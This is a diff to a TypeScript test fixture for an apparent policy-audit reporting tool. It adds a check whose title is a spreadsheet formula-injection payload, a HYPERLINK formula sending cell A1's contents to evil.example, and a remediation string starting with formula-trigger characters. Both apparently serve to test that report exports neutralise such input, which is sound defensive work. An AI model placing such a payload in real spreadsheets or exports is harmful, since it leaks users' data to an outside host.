@@ -30,6 +30,9 @@ export interface RealRun {
 export const MANUAL_CHECK = 'rpt-manual-001';
 export const MANUAL_REMEDIATION = 'Update the BMC firmware, then reboot.\nSee the "vendor guide", section 3, step 2.';
 
+export const FORMULA_CHECK = 'rpt-manual-002';
+export const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"click")';
+
 /** The built-in policy, plus one manual check (it has none): what an auditor answers. */
 export function builtInPolicy(): Policy {
   const load = builtInPolicies().find((l) => l.policy?.id === 'gpu-node-baseline');
@@ -48,7 +51,16 @@ export function builtInPolicy(): Policy {
     note: null,
     source: { file: 'test', line: null },
   };
-  return { ...policy, checks: [...policy.checks, manual] };
+  // A title and remediation a spreadsheet would run as formulas, with a URL in the text.
+  const formula: Check = {
+    ...manual,
+    id: FORMULA_CHECK,
+    title: FORMULA_TITLE,
+    remediation: '+1 then -1, @once',
+    severity: 'low',
+    references: { cis: [], nist: ['AU-6'], ssg: [] },
+  };
+  return { ...policy, checks: [...policy.checks, manual, formula] };
 }
 
 export async function realStoredRun(): Promise<RealRun> {
